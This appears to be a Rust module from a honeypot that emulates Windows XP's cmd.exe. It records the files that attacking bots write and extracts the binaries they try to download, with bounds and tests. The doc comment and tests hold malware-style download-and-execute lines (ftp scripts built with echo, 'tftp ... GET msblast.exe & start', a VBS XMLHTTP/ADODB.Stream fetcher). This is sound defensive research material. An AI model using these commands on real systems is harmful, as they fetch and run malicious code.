//! The command shell a bind-shell or connect-back shellcode would have
//! opened: just enough of Windows XP's `cmd.exe` for a bot to type its
//! download script into, and a reading of that script.
//!
//! Bots of the study's era did not carry the download command in the
//! exploit. The shellcode opened a shell (listening on a port, or
//! connecting back to the attacker) and the bot typed lines such as
//!
//! ```text
//! echo open 0.0.0.0 21 > o&echo user x y >> o&echo bin >> o&echo get a.exe >> o&echo bye >> o
//! ftp -n -s:o
//! tftp -i 192.0.2.1 GET a.exe
//! echo Set x=CreateObject("Microsoft.XMLHTTP"):x.Open "GET","http://192.0.2.1/a.exe",0 >> d.vbs
//! cscript d.vbs
//! ```
//!
//! [`CmdShell`] is a pure state machine: a typed line goes in, the output
//! to show and the downloads it asks for come out, in order. It keeps the
//! files the bot wrote with `echo ... > FILE` / `>> FILE` and reads them
//! when a command runs them (`ftp -s:FILE`, `cscript FILE`, `FILE.bat`).
//! It never runs anything else; everything it holds is bounded.

use crate::instructions::{find_instructions, DownloadInstruction};
use serde::Serialize;
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// What the shell shows when the attacker gets it.
pub const BANNER: &str =
    "Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n";
/// The prompt after every command.
pub const PROMPT: &str = "C:\\WINDOWS\\system32>";
/// Longest typed line, as `cmd.exe`'s own limit (8,191 characters); a
/// longer one is discarded with cmd's message.
pub const MAX_LINE: usize = 8191;
/// Most files the shell keeps (`echo ... > FILE`).
pub const MAX_FILES: usize = 32;
/// Largest file the shell keeps; writes past it fail as on a full disk.
pub const MAX_FILE_BYTES: usize = 16 * 1024;
/// Most `&`-chained commands read from one line.
pub const MAX_COMMANDS_PER_LINE: usize = 64;
/// Most downloads one shell session asks for.
pub const MAX_FETCHES: usize = 16;
/// How deep batch files may call each other.
const MAX_DEPTH: usize = 2;

/// How the attacker reached the shell.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ShellKind {
    /// The shellcode listened on a port and the attacker connected.
    Bind,
    /// The shellcode connected back to the attacker.
    ConnectBack,
}

/// A shell the exploit's shellcode offers.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum ShellOffer {
    /// Listen on `port` of the attacked address for the attacker.
    Bind {
        /// The port.
        port: u16,
    },
    /// Connect to `addr:port` (`0.0.0.0`: the attacker).
    ConnectBack {
        /// The address the shellcode names.
        addr: Ipv4Addr,
        /// The port.
        port: u16,
    },
}

impl ShellOffer {
    /// Bind or connect-back.
    pub fn kind(&self) -> ShellKind {
        match self {
            ShellOffer::Bind { .. } => ShellKind::Bind,
            ShellOffer::ConnectBack { .. } => ShellKind::ConnectBack,
        }
    }
}

/// One thing a typed line makes the shell do, in order.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ShellStep {
    /// Show this text.
    Output(String),
    /// Fetch this binary (containment decides whether, and from where).
    Fetch(DownloadInstruction),
    /// The attacker typed `exit`: close the shell.
    Exit,
}

/// How a fetch ended, for the line the shell shows after it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FetchOutcome {
    /// Stored, this many bytes.
    Stored(usize),
    /// Tried and failed.
    Failed,
    /// Not attempted: containment or a limit refused it.
    Refused,
}

/// The emulated `cmd.exe`: the files written so far.
#[derive(Debug, Default)]
pub struct CmdShell {
    files: HashMap<String, String>,
    fetches: usize,
}

impl CmdShell {
    /// A fresh shell with no files.
    pub fn new() -> CmdShell {
        CmdShell::default()
    }

    /// The content of a file the attacker wrote, by name (case-insensitive).
    pub fn file(&self, name: &str) -> Option<&str> {
        self.files.get(&file_key(name)).map(String::as_str)
    }

    /// Files held now.
    pub fn file_count(&self) -> usize {
        self.files.len()
    }

    /// Bytes held in all files now.
    pub fn bytes_held(&self) -> usize {
        self.files.values().map(String::len).sum()
    }

    /// Runs one typed line (without its line end). Downloads come out as
    /// [`ShellStep::Fetch`], in the order the line asks for them.
    pub fn run_line(&mut self, line: &str) -> Vec<ShellStep> {
        let mut steps = Vec::new();
        if line.len() > MAX_LINE {
            steps.push(ShellStep::Output("The input line is too long.\r\n".into()));
            return steps;
        }
        self.run_commands(line, 0, &mut steps);
        steps
    }

    fn run_commands(&mut self, line: &str, depth: usize, steps: &mut Vec<ShellStep>) {
        for cmd in split_commands(line).into_iter().take(MAX_COMMANDS_PER_LINE) {
            if steps.last() == Some(&ShellStep::Exit) {
                return;
            }
            self.run_command(cmd, depth, steps);
        }
    }

    fn run_command(&mut self, cmd: &str, depth: usize, steps: &mut Vec<ShellStep>) {
        let cmd = cmd.trim().trim_start_matches('@').trim_start();
        if program_name(first_word(cmd).0) == "cmd" {
            // `cmd /c LINE` / `cmd /k LINE`: the rest is a command line,
            // its redirections included.
            let rest = first_word(cmd).1.trim_start();
            let lower = rest.to_ascii_lowercase();
            if (lower.starts_with("/c") || lower.starts_with("/k")) && depth < MAX_DEPTH {
                let inner = rest[2..].trim().trim_matches('"');
                self.run_commands(inner, depth + 1, steps);
            }
            return;
        }
        let (text, redirect) = split_redirect(cmd);
        let (word, rest) = first_word(text);
        let name = program_name(word);
        match name.as_str() {
            "" => {}
            "echo" => {
                let said = rest.trim_end();
                match redirect {
                    Some((file, append)) => self.write_file(&file, said, append, steps),
                    None if said.eq_ignore_ascii_case("off") || said.is_empty() => {}
                    None => steps.push(ShellStep::Output(format!("{said}\r\n"))),
                }
            }
            "start" => {
                // `start FILE`: run a script the bot wrote, else nothing.
                let (target, args) = first_word(rest.trim_start());
                let target = skip_title(target, args);
                self.run_file(target.0, target.1, depth, steps);
            }
            "ftp" => self.ftp(rest, steps),
            "tftp" => self.tftp(rest, steps),
            "cscript" | "wscript" => {
                let args: Vec<&str> = words(rest).filter(|w| !w.starts_with("//")).collect();
                if let Some((file, more)) = args.split_first() {
                    self.run_script(file, &more.join(" "), steps);
                }
            }
            "exit" => steps.push(ShellStep::Exit),
            _ => self.run_file(word, rest, depth, steps),
        }
    }

    /// Runs `word` if it is a file the bot wrote: a script is read for
    /// URLs, a batch file runs line by line. Anything else (the bot
    /// starting what it downloaded, `net stop ...`) does nothing.
    fn run_file(&mut self, word: &str, args: &str, depth: usize, steps: &mut Vec<ShellStep>) {
        let key = file_key(word);
        let ext = key.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
        match ext {
            "vbs" | "js" | "vbe" | "jse" | "wsf" => self.run_script(word, args, steps),
            "bat" | "cmd" if depth < MAX_DEPTH => {
                if let Some(body) = self.files.get(&key).cloned() {
                    for line in body.lines() {
                        self.run_commands(line, depth + 1, steps);
                    }
                }
            }
            _ => {}
        }
    }

    /// A script host run on a file the bot wrote: the URLs in it (and in
    /// its arguments) are what it would fetch.
    fn run_script(&mut self, file: &str, args: &str, steps: &mut Vec<ShellStep>) {
        let Some(body) = self.files.get(&file_key(file)) else {
            steps.push(ShellStep::Output(format!(
                "Input Error: Can not find script file \"C:\\WINDOWS\\system32\\{}\".\r\n",
                file.trim_matches('"')
            )));
            return;
        };
        let text = format!("{body}\n{args}");
        for instr in find_instructions(text.as_bytes()) {
            if matches!(
                instr,
                DownloadInstruction::Http { .. } | DownloadInstruction::FtpUrl { .. }
            ) {
                self.fetch(instr, steps);
            }
        }
    }

    fn fetch(&mut self, instr: DownloadInstruction, steps: &mut Vec<ShellStep>) {
        if self.fetches < MAX_FETCHES {
            self.fetches += 1;
            steps.push(ShellStep::Fetch(instr));
        }
    }

    fn write_file(&mut self, file: &str, text: &str, append: bool, steps: &mut Vec<ShellStep>) {
        let key = file_key(file);
        if key.is_empty() {
            steps.push(ShellStep::Output(
                "The syntax of the command is incorrect.\r\n".into(),
            ));
            return;
        }
        if !self.files.contains_key(&key) && self.files.len() >= MAX_FILES {
            steps.push(ShellStep::Output(
                "There is not enough space on the disk.\r\n".into(),
            ));
            return;
        }
        let body = self.files.entry(key).or_default();
        if !append {
            body.clear();
        }
        if body.len() + text.len() + 2 > MAX_FILE_BYTES {
            steps.push(ShellStep::Output(
                "There is not enough space on the disk.\r\n".into(),
            ));
            return;
        }
        body.push_str(text);
        body.push_str("\r\n");
    }

    /// `tftp [-i] HOST [GET] SOURCE [DESTINATION]`.
    fn tftp(&mut self, args: &str, steps: &mut Vec<ShellStep>) {
        let args: Vec<&str> = words(args).filter(|w| !w.starts_with('-')).collect();
        let (host, file) = match args.as_slice() {
            [host, verb, file, ..] if verb.eq_ignore_ascii_case("get") => (host, file),
            [_, verb, ..] if verb.eq_ignore_ascii_case("put") => return,
            [host, file, ..] => (host, file),
            _ => {
                steps.push(ShellStep::Output(
                    "Transfers files to and from a remote computer running the TFTP service.\r\n"
                        .into(),
                ));
                return;
            }
        };
        self.fetch(
            DownloadInstruction::Tftp {
                host: host.to_string(),
                file: file.trim_matches('"').to_string(),
            },
            steps,
        );
    }

    /// `ftp [-n] [-s:FILE] [HOST]`: runs the script as `ftp.exe` would.
    fn ftp(&mut self, args: &str, steps: &mut Vec<ShellStep>) {
        let mut script = None;
        let mut auto_login = true;
        let mut host = None;
        for w in words(args) {
            let lw = w.to_ascii_lowercase();
            if let Some(file) = lw.strip_prefix("-s:") {
                script = Some(file.trim_matches('"').to_string());
            } else if lw == "-n" {
                auto_login = false;
            } else if !w.starts_with('-') && host.is_none() {
                host = Some(w.to_string());
            }
        }
        let Some(script) = script else {
            // Interactive ftp: nothing a script can type into it here.
            return;
        };
        let Some(body) = self.files.get(&file_key(&script)).cloned() else {
            steps.push(ShellStep::Output(format!(
                "Error opening script file {script}.\r\n"
            )));
            return;
        };
        for instr in ftp_script_fetches(&body, host, auto_login) {
            self.fetch(instr, steps);
        }
    }
}

/// The downloads an `ftp.exe` script asks for: every `get`/`recv`/`mget`
/// after an `open` (or after the host given on the command line), with
/// the credentials given by `user U P` or, with auto-login (no `-n`), by
/// the two lines after the connection opens.
pub fn ftp_script_fetches(
    script: &str,
    host: Option<String>,
    auto_login: bool,
) -> Vec<DownloadInstruction> {
    #[derive(Default)]
    struct Conn {
        host: String,
        port: u16,
        user: Option<String>,
        password: Option<String>,
        /// Auto-login lines still to read (user name, then password).
        login_lines: u8,
    }
    let open = |host: String, port: u16| Conn {
        host,
        port,
        login_lines: if auto_login { 2 } else { 0 },
        ..Default::default()
    };
    let mut conn = host.map(|h| open(h, 21));
    let mut out = Vec::new();
    for line in script.lines().take(256) {
        let line = line.trim();
        if line.is_empty() {
            continue;
        }
        if let Some(c) = conn.as_mut().filter(|c| c.login_lines > 0) {
            if c.login_lines == 2 {
                c.user = Some(line.to_string());
            } else {
                c.password = Some(line.to_string());
            }
            c.login_lines -= 1;
            continue;
        }
        let mut w = words(line);
        let verb = w.next().unwrap_or("").to_ascii_lowercase();
        match verb.as_str() {
            "open" | "o" => {
                if let Some(h) = w.next() {
                    let port = w.next().and_then(|p| p.parse().ok()).unwrap_or(21);
                    conn = Some(open(h.to_string(), port));
                }
            }
            "user" => {
                if let Some(c) = conn.as_mut() {
                    c.user = w.next().map(str::to_string);
                    c.password = w.next().map(str::to_string);
                }
            }
            "get" | "recv" | "mget" => {
                let Some(c) = conn.as_ref() else { continue };
                let files: Vec<&str> = if verb == "mget" {
                    w.collect()
                } else {
                    w.next().into_iter().collect()
                };
                for f in files {
                    out.push(DownloadInstruction::Ftp {
                        host: c.host.clone(),
                        port: c.port,
                        user: c.user.clone(),
                        password: c.password.clone(),
                        file: f.trim_matches('"').to_string(),
                    });
                }
            }
            "bye" | "quit" | "close" | "disconnect" => conn = None,
            _ => {}
        }
        if out.len() >= MAX_FETCHES {
            break;
        }
    }
    out
}

/// What the shell shows after a fetch, as the Windows tool would.
pub fn fetch_report(instr: &DownloadInstruction, outcome: FetchOutcome) -> String {
    match (instr, outcome) {
        (DownloadInstruction::Tftp { .. }, FetchOutcome::Stored(n)) => {
            format!("Transfer successful: {n} bytes in 1 second, {n} bytes/s\r\n")
        }
        (DownloadInstruction::Tftp { .. }, _) => "Timeout occurred\r\n".into(),
        (DownloadInstruction::Ftp { host, .. }, FetchOutcome::Stored(n)) => format!(
            "ftp> open {host}\r\n200 PORT command successful.\r\n\
             150 Opening BINARY mode data connection.\r\n226 Transfer complete.\r\n\
             ftp: {n} bytes received in 0.01Seconds {n}000.00Kbytes/sec.\r\nftp> bye\r\n"
        ),
        (DownloadInstruction::Ftp { host, .. }, _) => {
            format!("ftp> open {host}\r\n> ftp: connect :Connection refused\r\nftp> bye\r\n")
        }
        _ => String::new(),
    }
}

/// Splits a command line at `&`, `&&`, `||` and `|` outside double quotes.
fn split_commands(line: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut quoted = false;
    let mut start = 0;
    for (i, b) in line.bytes().enumerate() {
        match b {
            b'"' => quoted = !quoted,
            b'&' | b'|' if !quoted => {
                out.push(&line[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    out.push(&line[start..]);
    out.retain(|c| !c.trim().is_empty());
    out
}

/// Splits `echo TEXT > FILE` / `echo TEXT >> FILE` (the last `>` outside
/// quotes) into the text and (file, append).
fn split_redirect(cmd: &str) -> (&str, Option<(String, bool)>) {
    let mut quoted = false;
    let mut at = None;
    for (i, b) in cmd.bytes().enumerate() {
        match b {
            b'"' => quoted = !quoted,
            b'>' if !quoted => at = Some(i),
            _ => {}
        }
    }
    let Some(i) = at else {
        return (cmd, None);
    };
    let append = i > 0 && cmd.as_bytes()[i - 1] == b'>';
    let text_end = if append { i - 1 } else { i };
    let mut text = &cmd[..text_end];
    // `echo x 1> o`: a handle number before `>` is not echoed.
    if let Some(t) = text.strip_suffix('1').filter(|t| t.ends_with(' ')) {
        text = t;
    }
    let file = cmd[i + 1..].trim().trim_matches('"').to_string();
    (text, Some((file, append)))
}

/// The first word of a command (`echo.` and `echo,` count as `echo`) and
/// the rest, which keeps its leading separator.
fn first_word(cmd: &str) -> (&str, &str) {
    let cmd = cmd.trim_start();
    let end = cmd
        .find(|c: char| c.is_whitespace() || c == ',' || c == ';' || c == '=')
        .unwrap_or(cmd.len());
    let (word, rest) = cmd.split_at(end);
    let w = word.as_bytes();
    if w.len() >= 5 && w[..4].eq_ignore_ascii_case(b"echo") && w[4] == b'.' {
        return (&word[..4], &cmd[5..]);
    }
    (
        word,
        rest.strip_prefix([' ', '\t', ',', ';', '='])
            .unwrap_or(rest),
    )
}

/// `start "title" FILE ARGS`: skips a quoted window title.
fn skip_title<'a>(target: &'a str, args: &'a str) -> (&'a str, &'a str) {
    if target.starts_with('"') && target.ends_with('"') && target.len() >= 2 {
        first_word(args)
    } else {
        (target, args)
    }
}

/// A program's name as typed, without its folder, quotes or `.exe`/`.com`.
fn program_name(word: &str) -> String {
    let w = word.trim_matches('"');
    let base = w
        .rsplit(['\\', '/'])
        .next()
        .unwrap_or(w)
        .to_ascii_lowercase();
    base.strip_suffix(".exe")
        .or_else(|| base.strip_suffix(".com"))
        .map(str::to_string)
        .unwrap_or(base)
}

/// A file's key: lower case, without quotes or a folder the shell is in.
fn file_key(name: &str) -> String {
    let n = name.trim().trim_matches('"');
    let n = n.rsplit(['\\', '/']).next().unwrap_or(n);
    n.to_ascii_lowercase()
}

fn words(s: &str) -> impl Iterator<Item = &str> {
    s.split_whitespace()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fetches(steps: &[ShellStep]) -> Vec<DownloadInstruction> {
        steps
            .iter()
            .filter_map(|s| match s {
                ShellStep::Fetch(i) => Some(i.clone()),
                _ => None,
            })
            .collect()
    }

    fn ftp(
        host: &str,
        user: Option<&str>,
        password: Option<&str>,
        file: &str,
    ) -> DownloadInstruction {
        DownloadInstruction::Ftp {
            host: host.into(),
            port: 21,
            user: user.map(Into::into),
            password: password.map(Into::into),
            file: file.into(),
        }
    }

    #[test]
    fn typed_ftp_script_line_by_line() {
        let mut sh = CmdShell::new();
        for line in [
            "echo open 0.0.0.0 8021 > o",
            "echo user 1 1 >> o",
            "echo bin >> o",
            "echo get x.exe >> o",
            "echo bye >> o",
        ] {
            assert_eq!(sh.run_line(line), []);
        }
        assert_eq!(
            sh.file("O"),
            Some("open 0.0.0.0 8021\r\nuser 1 1\r\nbin\r\nget x.exe\r\nbye\r\n")
        );
        let got = fetches(&sh.run_line("ftp -n -s:o"));
        assert_eq!(
            got,
            [DownloadInstruction::Ftp {
                host: "0.0.0.0".into(),
                port: 8021,
                user: Some("1".into()),
                password: Some("1".into()),
                file: "x.exe".into()
            }]
        );
    }

    #[test]
    fn chained_ftp_script_in_one_line() {
        let mut sh = CmdShell::new();
        let steps = sh.run_line(
            "cmd /c echo open 10.0.0.5 21>o&echo user anonymous x>>o&echo binary>>o\
             &echo get bot.exe>>o&echo bye>>o&ftp -n -s:o&bot.exe&del o",
        );
        assert_eq!(
            fetches(&steps),
            [ftp("10.0.0.5", Some("anonymous"), Some("x"), "bot.exe")]
        );
        // Auto-login (no -n): the two lines after `open` are the login.
        let mut sh = CmdShell::new();
        sh.run_line(
            "echo open 10.0.0.5>i&echo joe>>i&echo secret>>i&echo get a.exe>>i&echo quit>>i",
        );
        assert_eq!(
            fetches(&sh.run_line("ftp -s:i")),
            [ftp("10.0.0.5", Some("joe"), Some("secret"), "a.exe")]
        );
        // The host on the command line opens the connection.
        let mut sh = CmdShell::new();
        sh.run_line("echo u>>j&echo p>>j&echo get b.exe>>j");
        assert_eq!(
            fetches(&sh.run_line("ftp.exe -v -s:j 10.0.0.6")),
            [DownloadInstruction::Ftp {
                host: "10.0.0.6".into(),
                port: 21,
                user: Some("u".into()),
                password: Some("p".into()),
                file: "b.exe".into()
            }]
        );
        // A missing script is cmd's error, and no fetch.
        assert_eq!(
            sh.run_line("ftp -s:nothere"),
            [ShellStep::Output(
                "Error opening script file nothere.\r\n".into()
            )]
        );
    }

    #[test]
    fn tftp_and_script_fetchers() {
        let mut sh = CmdShell::new();
        assert_eq!(
            fetches(&sh.run_line("tftp -i 10.0.0.7 GET msblast.exe & start msblast.exe")),
            [DownloadInstruction::Tftp {
                host: "10.0.0.7".into(),
                file: "msblast.exe".into()
            }]
        );
        let mut sh = CmdShell::new();
        sh.run_line(
            "echo Set x=CreateObject(\"Microsoft.XMLHTTP\"):x.Open \"GET\",\"http://10.0.0.8:8080/b.exe\",0:x.Send >> d.vbs",
        );
        sh.run_line("echo Set s=CreateObject(\"ADODB.Stream\"):s.Write x.responseBody:s.SaveToFile \"b.exe\" >> d.vbs");
        assert_eq!(
            fetches(&sh.run_line("cscript //nologo d.vbs")),
            [DownloadInstruction::Http {
                host: "10.0.0.8".into(),
                port: 8080,
                path: "/b.exe".into()
            }]
        );
        // The URL as the script's argument; the script run by name.
        let mut sh = CmdShell::new();
        sh.run_line("echo WScript.Echo 1 > g.vbs");
        assert_eq!(
            fetches(&sh.run_line("g.vbs http://10.0.0.9/c.exe c.exe")),
            [DownloadInstruction::Http {
                host: "10.0.0.9".into(),
                port: 80,
                path: "/c.exe".into()
            }]
        );
        // A batch file the bot wrote runs line by line.
        let mut sh = CmdShell::new();
        sh.run_line("echo tftp -i 10.0.0.7 GET a.exe > r.bat");
        assert_eq!(fetches(&sh.run_line("r.bat")).len(), 1);
    }

    #[test]
    fn output_exit_and_bounds() {
        let mut sh = CmdShell::new();
        assert_eq!(
            sh.run_line("echo hello"),
            [ShellStep::Output("hello\r\n".into())]
        );
        assert_eq!(
            sh.run_line("echo hi & exit & echo never"),
            [ShellStep::Output("hi\r\n".into()), ShellStep::Exit]
        );
        let long = "a".repeat(MAX_LINE + 1);
        assert_eq!(
            sh.run_line(&long),
            [ShellStep::Output("The input line is too long.\r\n".into())]
        );
        // Files: at most MAX_FILES, each at most MAX_FILE_BYTES.
        for i in 0..MAX_FILES {
            assert_eq!(sh.run_line(&format!("echo x > f{i}")), []);
        }
        let full = [ShellStep::Output(
            "There is not enough space on the disk.\r\n".into(),
        )];
        assert_eq!(sh.run_line("echo x > one_too_many"), full);
        let chunk = "y".repeat(1000);
        let mut refused = 0;
        for _ in 0..20 {
            if !sh.run_line(&format!("echo {chunk} >> f0")).is_empty() {
                refused += 1;
            }
        }
        // 1,002 bytes a line, 3 bytes already there: 16 lines fit 16 KiB.
        assert_eq!(refused, 4);
        assert!(sh.file("f0").unwrap().len() <= MAX_FILE_BYTES);
        // At most MAX_FETCHES fetches a session.
        let mut sh = CmdShell::new();
        let mut n = 0;
        for i in 0..40 {
            n += fetches(&sh.run_line(&format!("tftp -i 10.0.0.7 GET a{i}.exe"))).len();
        }
        assert_eq!(n, MAX_FETCHES);
        // Hostile input never panics.
        for line in [
            "a\u{e9}\u{e9}.x",
            "\"",
            ">",
            ">>",
            "&&&",
            "echo >",
            "cmd /c",
            "start",
            "ftp -s:",
            "tftp",
            "echo.",
            "\u{1F600}>\u{1F600}",
        ] {
            let _ = CmdShell::new().run_line(line);
        }
    }
}
